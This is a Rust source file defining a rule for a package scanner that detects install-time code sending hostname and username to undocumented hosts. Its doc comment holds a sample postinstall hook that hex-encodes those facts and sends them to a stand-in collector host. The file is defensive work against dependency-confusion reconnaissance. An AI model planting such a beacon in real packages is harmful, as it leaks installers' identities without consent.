//! # Facts of the host are seen leaving unasked
//!
//! Run in a fake world, code that runs at install or import sent the host's or user's name to a host that the release does
//! not speak of.
//!
//! ## Why it matters
//!
//! Reconnaissance: who installed it decides what is sent next. Packages that test for dependency confusion start so.
//!
//! ## Known benign uses
//!
//! Telemetry goes to a host that the documentation names. Alone this is no accusation.
//!
//! ## Bad
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node setup.js"}}
//! == setup.js
//! const os = require("os");
//! const text = "h=" + os.hostname() + "&u=" + os.userInfo().username;
//! require("https").request("https://collector.invalid/?" + Buffer.from(text).toString("hex")).end(); //~ here
//! ```
//!
//! ## Good
//!
//! ```package
//! == package.json
//! {"name": "x", "version": "1.0.0", "main": "index.js"}
//! == index.js
//! const os = require("os");
//! exports.label = () => os.hostname() + "/" + os.userInfo().username;
//! ```
//!
//! ## References
//!
//! - Alex Birsan: Dependency Confusion (February 2021)

use crate::prelude::*;

/// Facts of the host are seen leaving unasked.
pub struct HostFactsSeenLeaving;

impl Rule for HostFactsSeenLeaving {
    fn meta(&self) -> &'static RuleMeta {
        &RuleMeta {
            id: "host-facts-seen-leaving",
            title: "Facts of the host are seen leaving unasked",
            tier: Tier::Emulation,
            role: Role::Threat,
            severity: Level::Medium,
            specificity: Level::Medium,
            technique: "T1082",
            covers: &["collect-host-recon"],
            status: RuleStatus::Stable,
            since: "0.1.0",
        }
    }

    fn check(&self, facts: &Facts<'_>, found: &mut Found<'_>) {
        let is_sent = |proof: &&Proof| proof.kind == ProofKind::HostSent && proof.trigger.runs_unasked();
        for proof in facts.proofs().iter().filter(is_sent) {
            if !facts.is_own_business(proof) {
                found.seen(proof);
            }
        }
    }
}
